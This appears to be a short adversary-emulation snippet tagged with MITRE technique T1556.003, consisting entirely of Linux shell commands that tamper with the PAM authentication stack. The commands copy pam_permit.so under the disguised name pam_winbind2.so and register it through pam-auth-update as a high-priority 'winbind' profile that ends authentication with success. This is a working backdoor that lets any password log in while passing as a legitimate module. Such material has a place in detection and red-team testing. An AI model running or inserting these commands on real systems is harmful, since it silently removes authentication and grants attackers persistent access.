# technique: T1556.003
# location: linux.pam.stack
# source: /etc/pam.d/common-auth
cp /usr/lib/x86_64-linux-gnu/security/pam_permit.so /usr/lib/x86_64-linux-gnu/security/pam_winbind2.so
cat > /usr/share/pam-configs/winbind2 <<'PROFILE'
Name: winbind
Default: yes
Priority: 900
Auth-Type: Primary
Auth:
	[success=end default=ignore]	pam_winbind2.so
PROFILE
pam-auth-update --package --enable winbind2
